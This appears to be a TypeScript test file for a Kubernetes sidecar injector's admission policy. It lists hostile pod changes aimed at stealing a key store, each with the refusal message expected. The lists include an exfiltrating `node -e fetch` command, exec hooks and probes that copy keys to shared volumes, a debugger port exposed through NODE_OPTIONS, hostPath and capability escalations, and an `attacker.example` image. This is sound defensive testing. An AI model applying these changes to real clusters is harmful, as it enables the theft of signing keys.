// Pods an attacker with pod-create rights would write to reach the key store, each a change to a copy
// of a pod as `inject` makes it, with what the admission policy's refusal must say: judged by the
// model of the API server (test/deploy) and by a real API server (the cluster tier) alike.
import { parse } from 'yaml';
import type { AdmissionInput } from './admission-policy.js';
import { runCli } from './cli-process.js';
import { CORPUS_INJECT_ARGS } from './corpus-settings.js';
import type { Container, EnvVar, PodTemplate } from '../../src/injection/pod.js';

export type Pod = PodTemplate & { apiVersion: string; kind: string; metadata: NonNullable<PodTemplate['metadata']> };

/** A pod as `inject` makes it with the corpus settings: what each hostile pod is a changed copy of. */
export async function injected(
  spec: Partial<PodTemplate['spec']>,
  annotations: Record<string, string> = {},
  args: string[] = [],
): Promise<Pod> {
  const pod = { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'web', annotations }, spec };
  const result = await runCli(['inject', ...CORPUS_INJECT_ARGS, ...args, '-'], { input: JSON.stringify(pod) });
  if (result.code !== 0) throw new Error(result.stderr);
  return parse(result.stdout) as Pod;
}

export const app = (extra: Partial<Container> = {}): Container => ({ name: 'web', image: 'example/web:1', ...extra });

export type Attack = [title: string, change: (pod: Pod) => void, expected: RegExp, input?: Partial<AdmissionInput>];
export const sidecarIn = (pod: PodTemplate): Container | undefined =>
  [...(pod.spec.initContainers ?? []), ...pod.spec.containers].find((c) => c.name === 'sfd-sidecar');
export const sidecarOf = (pod: PodTemplate): Container => sidecarIn(pod)!;
export const envOf = (pod: PodTemplate) => sidecarOf(pod).env!;
export const mountsOf = (pod: PodTemplate) => sidecarOf(pod).volumeMounts!;
export const securityOf = (pod: PodTemplate) => sidecarOf(pod).securityContext!;
export const volumesOf = (pod: PodTemplate) => pod.spec.volumes!;
export const appOf = (pod: PodTemplate) => pod.spec.containers[0]!;
export const labelsOf = (pod: Pod) => pod.metadata.labels!;

export const POLICY_ATTACKS: Attack[] = [
  // A look-alike sidecar: whatever it carries runs in the process that holds the keys.
  [
    'NODE_OPTIONS in its env',
    (p) => envOf(p).push({ name: 'NODE_OPTIONS', value: '--inspect=0.0.0.0:9229' }),
    /only the SFD_\* variables/,
  ],
  [
    'variables from a ConfigMap by envFrom',
    (p) => (sidecarOf(p).envFrom = [{ configMapRef: { name: 'evil' } }]),
    /no command, args, workingDir,\s+envFrom/,
  ],
  [
    'SFD_ENV_FILE in its env',
    (p) => envOf(p).push({ name: 'SFD_ENV_FILE', value: '/shared/.env' }),
    /only the SFD_\* variables/,
  ],
  [
    'SFD_ACCESS_KEY_ID in its env',
    (p) => envOf(p).push({ name: 'SFD_ACCESS_KEY_ID', value: 'AK' }),
    /only the SFD_\* variables/,
  ],
  [
    'its profile from a ConfigMap',
    (p) =>
      (envOf(p).find((e) => e.name === 'SFD_PROFILE')!.valueFrom = {
        configMapKeyRef: { name: 'c', key: 'k' },
      }),
    /as literal values/,
  ],
  [
    'an exec postStart hook',
    (p) =>
      (sidecarOf(p).lifecycle = { postStart: { exec: { command: ['cp', '-r', '/etc/sfd-sidecar/keys', '/shared'] } } }),
    /no lifecycle hook/,
  ],
  [
    'a preStop hook besides wait-ready',
    (p) => (sidecarOf(p).lifecycle = { preStop: { exec: { command: ['sh'] } } }),
    /no lifecycle hook/,
  ],
  [
    'an exec liveness probe',
    (p) => (sidecarOf(p).livenessProbe = { exec: { command: ['cp', '/k', '/shared'] } }),
    /httpGet probes only/,
  ],
  [
    'a tcpSocket startup probe',
    (p) => (sidecarOf(p).startupProbe = { tcpSocket: { port: 9090 } }),
    /httpGet probes only/,
  ],
  [
    'a writable emptyDir shared with the app',
    (p) => {
      volumesOf(p).push({ name: 'shared', emptyDir: {} });
      mountsOf(p).push({ name: 'shared', mountPath: '/shared' });
    },
    /may mount only the key store/,
  ],
  [
    'a volume over the app files where .env is read',
    (p) => {
      volumesOf(p).push({ name: 'app', emptyDir: {} });
      mountsOf(p).push({ name: 'app', mountPath: '/app' });
    },
    /may mount only the key store/,
  ],
  [
    'the service account token (its no-token mount taken away)',
    (p) => (sidecarOf(p).volumeMounts = mountsOf(p).filter((m) => m.name !== 'sfd-sidecar-no-token')),
    /may mount only the key store/,
  ],
  [
    'a no-token volume the application writes',
    (p) => {
      const volume = volumesOf(p).find((v) => v.name === 'sfd-sidecar-no-token')!;
      delete volume.emptyDir;
      volume.persistentVolumeClaim = { claimName: 'shared' };
    },
    /may mount only the key store/,
  ],
  [
    'the no-token volume mounted writable elsewhere',
    (p) => (mountsOf(p)[1] = { name: 'sfd-sidecar-no-token', mountPath: '/app' }),
    /may mount only the key store/,
  ],
  [
    'an operation limit widened by a reference the kubelet expands',
    (p) =>
      (envOf(p).find((e) => e.name === 'SFD_OPERATIONS')!.value =
        '{"default":{"operations":["getCustomer"]},"$(SFD_PROFILE)":"*"}'),
    /may not hold "\$\("/,
  ],
  ['a workingDir of its own', (p) => (sidecarOf(p).workingDir = '/shared'), /no command, args, workingDir/],
  ['a command of its own', (p) => (sidecarOf(p).command = ['/nodejs/bin/node', '-e', 'x']), /no command/],
  ['args of its own', (p) => (sidecarOf(p).args = ['--inspect']), /no command, args/],
  ['a tty', (p) => (sidecarOf(p).tty = true), /stdin or tty/],
  ['a key store mount that is writable', (p) => (mountsOf(p)[0]!.readOnly = false), /read-only at/],
  ['a key store mount with subPath', (p) => (mountsOf(p)[0]!.subPath = 'keystore.json'), /without\s+subPath/],
  ['the key store mounted elsewhere', (p) => (mountsOf(p)[0]!.mountPath = '/app'), /read-only at/],
  ['another image', (p) => (sidecarOf(p).image = 'evil/reader:1'), /the chart's sidecar image/],
  [
    'a release older than the minimum',
    (p) => (sidecarOf(p).image = 'ghcr.io/sfd-sidecar/sfd-sidecar:0.1.0'),
    /the chart's sidecar image/,
  ],
  [
    'a digest that is not the chart own',
    (p) => (sidecarOf(p).image = `ghcr.io/sfd-sidecar/sfd-sidecar:9.9.9@sha256:${'b'.repeat(64)}`),
    /the chart's sidecar image/,
  ],
  [
    'a tag that is no release',
    (p) => (sidecarOf(p).image = 'ghcr.io/sfd-sidecar/sfd-sidecar:latest'),
    /chart's sidecar/,
  ],
  [
    'a look-alike repository prefix',
    (p) => (sidecarOf(p).image = 'ghcr.io/sfd-sidecar/sfd-sidecar-evil:1'),
    /the chart's sidecar image/,
  ],
  ['privilege escalation allowed', (p) => (securityOf(p).allowPrivilegeEscalation = true), /security context/],
  ['a capability added', (p) => (securityOf(p).capabilities!.add = ['SYS_PTRACE']), /security context/],
  ['a writable root filesystem', (p) => (securityOf(p).readOnlyRootFilesystem = false), /security context/],
  ['running as root', (p) => (securityOf(p).runAsUser = 0), /security context/],
  ['no security context', (p) => delete sidecarOf(p).securityContext, /security context/],
  // The pod around it.
  [
    'an app sharing the process namespace at the sidecar user',
    (p) => {
      p.spec.shareProcessNamespace = true;
      appOf(p).securityContext = { runAsUser: 65532, allowPrivilegeEscalation: false };
    },
    /shared process namespace/,
  ],
  [
    'an app sharing the process namespace as root',
    (p) => {
      p.spec.shareProcessNamespace = true;
      appOf(p).securityContext = { allowPrivilegeEscalation: false };
    },
    /shared process namespace/,
  ],
  [
    'a hostPath volume',
    (p) => volumesOf(p).push({ name: 'node', hostPath: { path: '/var/lib/kubelet' } }),
    /hostPath volume/,
  ],
  ['the host process namespace', (p) => (p.spec.hostPID = true), /host's process namespace/],
  ['the host network', (p) => (p.spec.hostNetwork = true), /host's process namespace or network/],
  ['a privileged app', (p) => (appOf(p).securityContext = { privileged: true }), /privileged/],
  [
    'an app adding SYS_ADMIN',
    (p) => (appOf(p).securityContext = { capabilities: { add: ['SYS_ADMIN'] } }),
    /beyond the baseline/,
  ],
  [
    'an app adding a lower-case capability',
    (p) => (appOf(p).securityContext = { capabilities: { add: ['cap_sys_admin'] } }),
    /beyond the baseline/,
  ],
  ['an app adding ALL', (p) => (appOf(p).securityContext = { capabilities: { add: ['ALL'] } }), /beyond the baseline/],
  [
    'an app mounting the key store',
    (p) => (appOf(p).volumeMounts = [{ name: 'sfd-sidecar-keystore', mountPath: '/k' }]),
    /only the sfd-sidecar container/,
  ],
  [
    'an app reading it into its env',
    (p) => (appOf(p).env = [{ name: 'K', valueFrom: { secretKeyRef: { name: 'sfd-keys', key: 'keystore.json' } } }]),
    /only the sfd-sidecar container/,
  ],
  [
    'an app taking it whole by envFrom',
    (p) => (appOf(p).envFrom = [{ secretRef: { name: 'sfd-keys' } }]),
    /only the sfd-sidecar container/,
  ],
  [
    'an app mounting it through a projected volume',
    (p) => {
      volumesOf(p).push({
        name: 'all',
        projected: { sources: [{ configMap: { name: 'c' } }, { secret: { name: 'sfd-keys' } }] },
      });
      appOf(p).volumeMounts = [{ name: 'all', mountPath: '/all' }];
    },
    /only the sfd-sidecar container/,
  ],
  // A pod the webhook would never have judged.
  ['a pod that never asked', (p) => delete labelsOf(p)['sfd-sidecar.io/inject'], /one the injector judges/],
  [
    'a pod labelled false in a namespace that asks',
    (p) => (labelsOf(p)['sfd-sidecar.io/inject'] = 'false'),
    /one the injector judges/,
    { namespaceLabels: { 'sfd-sidecar.io/inject': 'enabled' } },
  ],
  ['a pod in kube-system', () => undefined, /one the injector judges/, { namespace: 'kube-system' }],
  ["a pod in the injector's own namespace", () => undefined, /one the injector judges/, { namespace: 'sfd-system' }],
  ['a pod in a namespace the chart excludes', () => undefined, /one the injector judges/, { namespace: 'legacy' }],
  [
    'a pod labelled as the injector',
    (p) => (labelsOf(p)['sfd-sidecar.io/injector'] = 'true'),
    /one the injector judges/,
  ],
];

/** Sets a variable of the container, in place of any it had by that name. */
export const setEnv = (container: Container, name: string, entry: Omit<EnvVar, 'name'>): void => {
  container.env = [...container.env!.filter((e) => e.name !== name), { name, ...entry }];
};

/**
 * Copies of a pod injected offline for the shop namespace's checkout account signing as billing, each
 * changed as an attacker would, with what the webhook's refusal must say. The entitlement policy they
 * are judged under grants billing to that account only.
 */
export const CARRIED_ATTACKS: [title: string, change: (pod: Pod) => void, expected: RegExp][] = [
  [
    'a sidecar that signs as a profile its service account is not entitled to',
    (pod) => setEnv(sidecarOf(pod), 'SFD_PROFILE', { value: 'payroll' }),
    /may not use profile payroll/,
  ],
  [
    'a sidecar that may pick such a profile per request',
    (pod) => {
      setEnv(sidecarOf(pod), 'SFD_ALLOWED_PROFILES', { value: 'billing,payroll' });
      setEnv(sidecarOf(pod), 'SFD_PROFILE_HEADER', { value: 'X-Pick' });
    },
    /may not use profile payroll/,
  ],
  [
    'a sidecar whose profile comes from a ConfigMap',
    (pod) => setEnv(sidecarOf(pod), 'SFD_PROFILE', { valueFrom: { configMapKeyRef: { name: 'c', key: 'p' } } }),
    /SFD_PROFILE comes from valueFrom/,
  ],
  [
    'a sidecar whose profile is a reference to another variable',
    (pod) => setEnv(sidecarOf(pod), 'SFD_PROFILE', { value: '$(PROFILE)' }),
    /SFD_PROFILE is not a profile name/,
  ],
  [
    'a sidecar taking variables by envFrom',
    (pod) => (sidecarOf(pod).envFrom = [{ configMapRef: { name: 'settings' } }]),
    /envFrom/,
  ],
  [
    'a sidecar started with NODE_OPTIONS=--inspect',
    (pod) => setEnv(sidecarOf(pod), 'NODE_OPTIONS', { value: '--inspect=0.0.0.0:9229' }),
    /NODE_OPTIONS, which injection never writes/,
  ],
  [
    'a sidecar with an exec probe',
    (pod) => (sidecarOf(pod).livenessProbe = { exec: { command: ['cp', '-r', '/etc/sfd-sidecar/keys', '/x'] } }),
    /livenessProbe is not an httpGet probe/,
  ],
  [
    'a sidecar with an exec postStart hook',
    (pod) => (sidecarOf(pod).lifecycle = { postStart: { exec: { command: ['cp', '/k', '/shared'] } } }),
    /lifecycle hooks are not the wait-ready hook/,
  ],
  [
    'a sidecar mounting a shared emptyDir besides its keys',
    (pod) => {
      pod.spec.volumes!.push({ name: 'shared', emptyDir: {} });
      sidecarOf(pod).volumeMounts!.push({ name: 'shared', mountPath: '/app' });
    },
    /mounts sfd-sidecar-keystore, sfd-sidecar-no-token, shared; injection mounts .* and nothing else/,
  ],
  [
    'a sidecar holding the service account token (its no-token mount taken away)',
    (pod) =>
      (sidecarOf(pod).volumeMounts = sidecarOf(pod).volumeMounts!.filter((m) => m.name !== 'sfd-sidecar-no-token')),
    /injection mounts sfd-sidecar-keystore and sfd-sidecar-no-token/,
  ],
  [
    'a sidecar whose no-token volume is a shared one the application writes',
    (pod) => {
      const volume = pod.spec.volumes!.find((v) => v.name === 'sfd-sidecar-no-token')!;
      delete volume.emptyDir;
      volume.persistentVolumeClaim = { claimName: 'shared' };
    },
    /its volume sfd-sidecar-no-token is not an emptyDir/,
  ],
  [
    'a sidecar mounting its no-token volume elsewhere, writable',
    (pod) => (sidecarOf(pod).volumeMounts![1] = { name: 'sfd-sidecar-no-token', mountPath: '/tmp' }),
    /its mount of sfd-sidecar-no-token is not as injection writes it/,
  ],
  [
    'a sidecar with a working directory of its own',
    (pod) => (sidecarOf(pod).workingDir = '/shared'),
    /it sets workingDir/,
  ],
  [
    'a sidecar with a command of its own',
    (pod) => (sidecarOf(pod).command = ['node', '-e', 'fetch("http://x", {body: require("fs").readFileSync("/k")})']),
    /it sets command/,
  ],
  [
    'a copy that shares the process namespace with an app at the sidecar user',
    (pod) => {
      pod.spec.shareProcessNamespace = true;
      appOf(pod).securityContext = { runAsUser: 65532, allowPrivilegeEscalation: false };
    },
    /runs as the sidecar's user 65532/,
  ],
  [
    'a copy whose app mounts the key store volume',
    (pod) => (appOf(pod).volumeMounts = [{ name: 'sfd-sidecar-keystore', mountPath: '/k' }]),
    /container web mounts volume sfd-sidecar-keystore/,
  ],
  [
    'a copy whose app mounts the node through hostPath',
    (pod) => {
      pod.spec.volumes!.push({ name: 'node', hostPath: { path: '/var/lib/kubelet' } });
      appOf(pod).volumeMounts = [{ name: 'node', mountPath: '/node' }];
    },
    /volume node is a hostPath/,
  ],
  [
    'a sidecar on the port its application declares (as a fixed patch may leave it)',
    (pod) => (appOf(pod).ports = [{ containerPort: 8080 }]),
    /its sidecar listens on 8080 \(SFD_LISTEN\), which is declared by container web/,
  ],
  [
    'a sidecar pinned to a release from before operation limits',
    (pod) => (sidecarOf(pod).image = 'ghcr.io/sfd-sidecar/sfd-sidecar:0.1.0'),
    /its image 0\.1\.0 is older than/,
  ],
  [
    "a sidecar pinned to a digest that is not the injector's",
    (pod) => (sidecarOf(pod).image = `ghcr.io/sfd-sidecar/sfd-sidecar:9.9.9@sha256:${'b'.repeat(64)}`),
    /digest that is not the injector's own/,
  ],
  [
    'a sidecar from another image',
    (pod) => (sidecarOf(pod).image = 'attacker.example/sfd-sidecar:0.1.0'),
    /its image is not from ghcr.io\/sfd-sidecar\/sfd-sidecar/,
  ],
];
